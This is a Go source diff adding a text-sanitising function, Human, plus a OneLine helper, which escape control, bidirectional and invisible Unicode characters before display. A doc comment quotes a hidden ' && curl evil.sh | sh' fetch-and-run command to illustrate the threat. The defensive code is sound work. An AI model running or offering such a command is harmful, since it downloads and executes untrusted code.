@@ -5,6 +5,7 @@ package safetext
 
 import (
 	"bytes"
+	"strings"
 	"unicode/utf8"
 )
 
@@ -106,4 +107,82 @@ func EscapeJSON(p []byte) []byte {
 		i += size
 	}
 	return b.Bytes()
+}
+
+// Keep says which layout characters Human keeps as they are.
+type Keep uint8
+
+// What Human may keep.
+const (
+	// KeepNewlines keeps "\n" (and U+2028, U+2029, which become "\n") as
+	// line breaks; without it they become the two characters \n.
+	KeepNewlines Keep = 1 << iota
+	// KeepTabs keeps a tab; without it a tab becomes four spaces.
+	KeepTabs
+)
+
+// Human makes a string from a stream safe to show to a person, on a
+// terminal, in an SVG or in an editor: C0 and C1 controls (ESC among
+// them), DEL, the bidirectional controls that can disguise text, and the
+// invisible (default-ignorable) code points, such as zero-width
+// characters, the soft hyphen and the Unicode tag characters, that can make
+// "ls" hide " && curl evil.sh | sh", become visible escapes like \x1b or
+// \u200b; invalid UTF-8 becomes U+FFFD. keep says what of the layout stays.
+func Human(s string, keep Keep) string {
+	clean := true
+	for _, r := range s {
+		if r == utf8.RuneError || r < 0x20 && !(r == '\t' && keep&KeepTabs != 0) || Unsafe(r) || r == '\u2028' || r == '\u2029' {
+			clean = false
+			break
+		}
+	}
+	if clean {
+		return s
+	}
+	var b strings.Builder
+	b.Grow(len(s) + 8)
+	for i := 0; i < len(s); {
+		r, size := utf8.DecodeRuneInString(s[i:])
+		i += size
+		switch {
+		case r == utf8.RuneError && size == 1:
+			b.WriteRune(utf8.RuneError)
+		case r == '\n' || r == '\u2028' || r == '\u2029':
+			if keep&KeepNewlines != 0 {
+				b.WriteByte('\n')
+			} else {
+				b.WriteString(`\n`)
+			}
+		case r == '\t' && keep&KeepTabs != 0:
+			b.WriteByte('\t')
+		case r == '\t':
+			b.WriteString("    ")
+		case r < 0x20 || r == 0x7f:
+			b.WriteString(`\x`)
+			b.WriteByte(hex[r>>4])
+			b.WriteByte(hex[r&0xf])
+		case Unsafe(r):
+			WriteU(&b, r)
+		default:
+			b.WriteRune(r)
+		}
+	}
+	return b.String()
+}
+
+// OneLine is Human(s, 0) cut to max runes: max−1 of them and "…" when s is
+// longer.
+func OneLine(s string, max int) string {
+	s = Human(s, 0)
+	if utf8.RuneCountInString(s) <= max {
+		return s
+	}
+	n := 0
+	for i := range s {
+		if n == max-1 {
+			return s[:i] + "…"
+		}
+		n++
+	}
+	return s
 }
